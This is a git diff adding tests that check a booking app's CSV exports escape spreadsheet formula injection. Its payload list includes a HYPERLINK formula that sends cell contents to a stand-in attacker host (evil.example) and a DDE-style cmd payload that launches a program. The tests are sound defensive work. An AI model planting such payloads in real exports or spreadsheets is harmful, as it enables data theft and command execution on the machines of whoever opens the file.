@@ -11,6 +11,7 @@ import { buildTestApp, call, createCustomer, type TestContext } from '../../../t
 import { createCheckedOutBooking } from '../../../test/fixtures';
 import { branchIds, createBookingAt, createStaff } from '../../../test/staff';
 import { generateReportData } from './report-data';
+import { toCsv } from './reports.csv';
 
 let ctx: TestContext;
 let admin: Awaited<ReturnType<typeof createStaff>>;
@@ -214,5 +215,54 @@ describe('CSV', () => {
       expect.objectContaining({ customer: 'Mensah, Ama "Maa"', sub_total: booking.subTotal, express_fee: '0.00', pickup_fee: '0.00', total: booking.subTotal, amount_due: booking.subTotal }),
     ]);
     expect(rows[0].created_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+  });
+
+  /** Cells a spreadsheet would run as a formula, as OWASP lists their first characters. */
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+2', '\r=1+2'];
+
+  it('orders: a name or email that would run as a formula comes back as text, figures as they are', async () => {
+    // Accounts made before the email rule refused such addresses still hold them.
+    const attacker = await createCustomer(ctx, { name: FORMULAS[0], email: '=HYPERLINK("http://evil.example/?"&A2)&@x.co' });
+    const booking = await createCheckedOutBooking(ctx, attacker.user.id);
+    for (const [i, formula] of FORMULAS.entries()) {
+      const other = await createCustomer(ctx, { name: `${formula} ${i}` });
+      await createCheckedOutBooking(ctx, other.user.id);
+    }
+    const orders = await call(ctx.app, 'GET', '/api/ops/bookings.csv', { token: admin.token });
+    expect(orders.status).toBe(200);
+    const rows = parse(orders.response.body, { columns: true }) as Record<string, string>[];
+    const attackers = rows.filter((row) => row.email.includes('evil.example'));
+    expect(attackers).toEqual([
+      expect.objectContaining({ customer: `'${FORMULAS[0]}`, email: `'=HYPERLINK("http://evil.example/?"&A2)&@x.co`, total: booking.subTotal }),
+    ]);
+    for (const [i, formula] of FORMULAS.entries()) expect(rows.map((row) => row.customer)).toContain(`'${formula} ${i}`);
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d+(\.\d+)?$)/);
+    }
+  });
+
+  it('bookings report: an item name that would run as a formula comes back as text', async () => {
+    const today = todayInAccra();
+    const customer = await createCustomer(ctx);
+    const booking = await createCheckedOutBooking(ctx, customer.user.id);
+    const [line] = await ctx.database.db.select().from(bookingItems).where(eq(bookingItems.bookingId, booking.id)).limit(1);
+    await ctx.database.db
+      .update(bookingItems)
+      .set({ itemName: FORMULAS[3], unitPrice: '9998.00', quantity: 1, total: '9998.00' })
+      .where(eq(bookingItems.id, line.id));
+    const csv = await report('bookings.csv', `?from=${today}&to=${today}`);
+    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
+    expect(records).toContainEqual({ section: 'top_by_revenue', name: `'${FORMULAS[3]}`, bookings: '', quantity: '1', amount: '9998.00' });
+    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+  });
+
+  it('takings: every cell is a period or a figure, negative figures stay numbers', async () => {
+    const csv = await report('takings.csv', `?from=${FROM}&to=${TO}&group=day`);
+    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
+    for (const { period, ...figures } of records) {
+      expect(period).toMatch(/^(\d{4}-\d{2}-\d{2}|total)$/);
+      for (const figure of Object.values(figures)) expect(figure).toMatch(/^-?\d+\.\d{2}$/);
+    }
+    expect(toCsv(['net'], [['-25.00'], ['-2+3'], [-4]])).toBe("net\n-25.00\n'-2+3\n-4\n");
   });
 });
